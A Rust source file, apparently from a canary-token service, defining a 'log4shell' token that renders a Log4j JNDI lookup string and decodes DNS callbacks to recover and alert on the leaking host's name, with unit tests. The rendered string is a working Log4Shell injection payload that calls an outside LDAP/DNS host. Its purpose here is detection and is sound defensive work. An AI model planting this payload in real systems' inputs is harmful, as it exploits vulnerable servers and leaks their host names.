//! Kind `log4shell`: the string `${jndi:ldap://x${hostName}.L4J.<hostname>/a}`. A vulnerable
//! Log4j expands `${hostName}` and looks the name up; the label after the leading `x` is the
//! host's name. Lookups that carry no host name (scanners, resolvers) are kept but not alerted.

use super::{needs_dns_field, DnsData, DnsDecoding, Kind, KindView, ViewContext};
use crate::model::{Channel, Judgement, NewHit, Token};

pub struct Log4Shell;

const FIELD: &str = "log4shell_hostname";

impl Kind for Log4Shell {
    fn name(&self) -> &'static str {
        "log4shell"
    }

    fn human_name(&self) -> &'static str {
        "Log4Shell"
    }

    fn channel(&self) -> Channel {
        Channel::Dns
    }

    fn view(&self, token: &Token, cx: &ViewContext<'_>) -> KindView {
        let site = cx.site;
        let text = format!("${{jndi:ldap://x${{hostName}}.L4J.{}/a}}", site.hostname(&token.id));
        KindView::default().render(self.name(), text)
    }

    fn judge(&self, _token: &Token, hit: &NewHit) -> Judgement {
        needs_dns_field(hit, FIELD)
    }

    fn dns(&self) -> Option<&dyn DnsDecoding> {
        Some(self)
    }
}

impl DnsDecoding for Log4Shell {
    fn rank(&self) -> u8 {
        4
    }

    fn decode(&self, labels: &[String]) -> DnsData {
        decode(labels)
    }
}

/// `x<host>.L4J` (the host may itself hold dots).
fn decode(labels: &[String]) -> DnsData {
    let Some((marker, host)) = labels.split_last() else { return DnsData::NoMatch };
    if !marker.eq_ignore_ascii_case("l4j") {
        return DnsData::NoMatch;
    }
    let joined = host.join(".");
    match joined.strip_prefix('x').or_else(|| joined.strip_prefix('X')) {
        Some(name) if !name.is_empty() => DnsData::field(FIELD, name),
        _ => DnsData::Undecodable,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kinds::testing::labels;

    #[test]
    fn decodes_the_host_name() {
        match decode(&labels("xWEB-01.L4J")) {
            DnsData::Decoded(m) => assert_eq!(m[FIELD], "WEB-01"),
            other => panic!("{other:?}"),
        }
        match decode(&labels("xweb.corp.l4j")) {
            DnsData::Decoded(m) => assert_eq!(m[FIELD], "web.corp"),
            other => panic!("{other:?}"),
        }
        assert_eq!(decode(&labels("x.L4J")), DnsData::Undecodable);
        assert_eq!(decode(&labels("L4J")), DnsData::Undecodable);
        assert_eq!(decode(&labels("abc.G12")), DnsData::NoMatch);
    }

    #[test]
    fn renders_the_lookup_string_and_ignores_bare_lookups() {
        use crate::kinds::testing;
        let (site, token) = (testing::site(), testing::token("log4shell", serde_json::json!({})));
        let view = Log4Shell.view(&token, &crate::kinds::testing::vcx(&site));
        assert_eq!(
            view.renders,
            vec![("log4shell", format!("${{jndi:ldap://x${{hostName}}.L4J.{}/a}}", site.hostname(&token.id)))]
        );
        assert!(view.fields.is_empty());
        let bare = testing::hit(Channel::Dns, serde_json::json!({}));
        assert!(matches!(Log4Shell.judge(&token, &bare), Judgement::Ignore { .. }));
        let named = testing::hit(Channel::Dns, serde_json::json!({ FIELD: "WEB-01" }));
        assert_eq!(Log4Shell.judge(&token, &named), Judgement::alert());
    }
}
